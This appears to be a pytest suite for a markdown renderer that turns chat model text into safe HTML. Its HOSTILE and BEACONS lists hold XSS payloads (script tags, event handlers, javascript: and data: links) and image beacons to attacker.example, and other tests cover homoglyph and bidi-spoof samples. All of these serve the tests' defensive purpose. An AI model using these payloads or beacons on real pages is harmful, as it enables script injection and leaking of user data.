"""Model text becomes HTML that runs nothing, fetches nothing and hides nothing."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dialogue.rendering.markdown import MAX_CHARS, link_host, render_markdown

TAGS = {
    *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "div"),
    *("ul", "ol", "li", "h3", "h4", "h5", "h6", "a", "span"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"href", "target", "rel", "dir", "class", "title", "start"}

# What other chats were attacked with: scripts, handlers, beacons, broken nesting.
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
    "<style>@import 'https://attacker.example/x.css';</style>",
    "<img srcset='https://attacker.example/x 1x'>",
    "<form action='https://attacker.example'><button>Sign in</button></form>",
    "<base href='https://attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    '![x](https://attacker.example/"onerror="alert(1))',
    '![" onerror="alert(1)](x)',
    "[x][r]\n\n[r]: javascript:alert(1)",
    '```"><script>alert(1)</script>\ncode\n```',
    "```x onload=alert(1)\ncode\n```",
    "`<script>alert(1)</script>`",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "**<b onclick=alert(1)>x</b>**",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
BEACONS = [
    "![x](https://attacker.example/p?d=S)",
    "![x][r]\n\n[r]: https://attacker.example/p",
    "![x](//attacker.example/x)",
    "![x](/same-origin.png)",
    "[![x](https://attacker.example/p)](https://attacker.example/)",
]


class Elements(HTMLParser):
    """Every element of a piece of HTML with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        href = attributes.get("href")
        if tag == "a":
            assert href is None or re.match(r"(?:https?://|mailto:)", href)
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"


@pytest.mark.lesson("chat-R28")
@pytest.mark.parametrize("text", [*HOSTILE, *BEACONS])
def test_hostile_text_does_nothing(text: str) -> None:
    assert_harmless(render_markdown(text))


@pytest.mark.lesson("chat-R28")
@pytest.mark.parametrize("text", BEACONS)
def test_no_image_is_ever_fetched(text: str) -> None:
    assert "<img" not in render_markdown(text)


@pytest.mark.lesson("chat-R28")
@given(st.text(alphabet=st.sampled_from("<>\"'`[]()!*_~|\\&;:/=#-x \njavscript")))
@settings(max_examples=150, deadline=None)
def test_any_mixture_of_marks_is_harmless(text: str) -> None:
    assert_harmless(render_markdown(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**a** *b* ~~c~~", "<strong>a</strong> <em>b</em> <s>c</s>"),
        ("# Title", '<h3 dir="auto">Title</h3>'),
        ("###### Deep", '<h6 dir="auto">Deep</h6>'),
        ("3. three", '<ol start="3">'),
        ("a | b\n-|-:\n1 | 2", '<th class="align-end" dir="auto">b</th>'),
        ("```py\nx < 1\n```", '<code class="language-py">x &lt; 1'),
        ("    x", '<pre dir="ltr"><code>x'),
        ("`a<b`", '<code dir="ltr">a&lt;b</code>'),
        ("> said", '<blockquote dir="auto">'),
        ("שלום", '<p dir="auto">שלום</p>'),
    ],
)
def test_markdown_is_rendered(text: str, html: str) -> None:
    assert html in render_markdown(text)


def test_html_in_the_text_is_text() -> None:
    assert render_markdown("a <b>c</b>") == '<p dir="auto">a &lt;b&gt;c&lt;/b&gt;</p>\n'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[good.example](https://evil.example/x)", "(evil.example)"),
        ("[mail](mailto:a@b.example)", "(a@b.example)"),
        # A Cyrillic letter in the name: what is reached is not what it looks like.
        ("<https://\u0430pple.example/>", "(xn--pple-43d.example)"),
        ("![plan](https://pictures.example/p.png)", "(pictures.example)"),
        ("[x](https://user:word@evil.example/)", "(evil.example)"),
    ],
)
def test_links_say_where_they_lead(text: str, shown: str) -> None:
    assert f'<span class="link-host">{shown}</span>' in render_markdown(text)


def test_a_link_that_names_its_host_does_not_say_it_twice() -> None:
    assert "link-host" not in render_markdown("<https://docs.example/a>")


@pytest.mark.parametrize(
    "href",
    ["/x", "//evil.example", "ftp://a.example", "https://", "x:y", "http://[::1"],
)
def test_links_to_anywhere_else_are_not_made(href: str) -> None:
    assert link_host(href) is None
    assert "<a" not in render_markdown(f"[x]({href})")


def test_hidden_characters_show_in_text_and_in_code() -> None:
    html = render_markdown("pay\u202egnp.exe `a\u200bb`\n\n```\nc\u2066d\n```")
    for code in ("U+202E", "U+200B", "U+2066"):
        assert f">{code}</span>" in html
    assert not re.search("[\u202e\u200b\u2066]", html)


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "a@",
        "*",
        "**a",
        "`",
        "<",
        "> ",
        "- ",
        "[a](",
        "~~",
        "a|b\n-|-\n",
        "_a_",
    ],
)
@pytest.mark.parametrize("size", [1_000_000, 30_000])
def test_long_input_is_rendered_within_a_second(unit: str, size: int) -> None:
    text = unit * (size // len(unit))
    # This thread's own time: a busy machine is not the renderer's fault.
    started = time.thread_time()
    html = render_markdown(text)
    assert time.thread_time() - started < 1
    assert_harmless(html)


def test_a_text_over_the_limit_is_shown_whole_as_plain_text() -> None:
    html = render_markdown("**a** " * (MAX_CHARS // 6 + 1))
    assert html.startswith('<div class="plain"')
    assert html.count("**a**") == MAX_CHARS // 6 + 1
